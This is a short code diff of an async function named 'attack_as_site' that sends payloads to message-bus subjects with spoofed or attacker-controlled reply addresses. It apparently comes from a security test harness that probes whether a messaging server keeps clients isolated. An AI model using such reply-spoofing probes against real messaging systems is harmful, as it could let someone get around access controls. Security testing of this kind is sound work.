@@ -240,7 +240,8 @@ async def attack_as_site(client: Client) -> list[tuple[str, bytes]]:
     await settle(client)
     for target in targets():
         for payload in PAYLOADS:
-            await client.publish(target, payload, reply="_R_.x.direct")
+            await client.publish(target, payload)  # the server drops a client's message with a reply to _R_
+            await client.publish(target, payload, reply=f"_INBOX_{ATTACKER}.direct")
         for question in (f"ctl.up.{ATTACKER}", f"logs.beat.{ATTACKER}"):
             if question != target:
                 await client.publish(question, PAYLOADS[-1], reply=target)
